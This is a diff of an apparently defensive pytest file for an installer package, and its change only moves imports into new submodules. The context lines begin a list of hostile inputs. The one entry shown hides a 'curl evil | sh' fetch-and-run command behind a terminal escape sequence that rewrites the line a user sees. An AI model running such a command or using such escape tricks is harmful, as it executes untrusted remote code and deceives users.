@@ -8,12 +8,12 @@ import re
 
 import pytest
 
-from installer.errors import ExtError, UsageError
-from installer.plan import Action, Plan
+from installer.engine.plan import Action, Plan
+from installer.ground.errors import ExtError, UsageError
 from installer.render import render
-from installer.resources import check_name
-from installer.result import PlanResult
-from installer.ui import Output, escape
+from installer.render.result import PlanResult
+from installer.render.ui import Output, escape
+from installer.sets.resources import check_name
 
 HOSTILE = [
     "./lint.sh\x1b[2K\rcurl evil | sh",  # rewrites the line the user reads
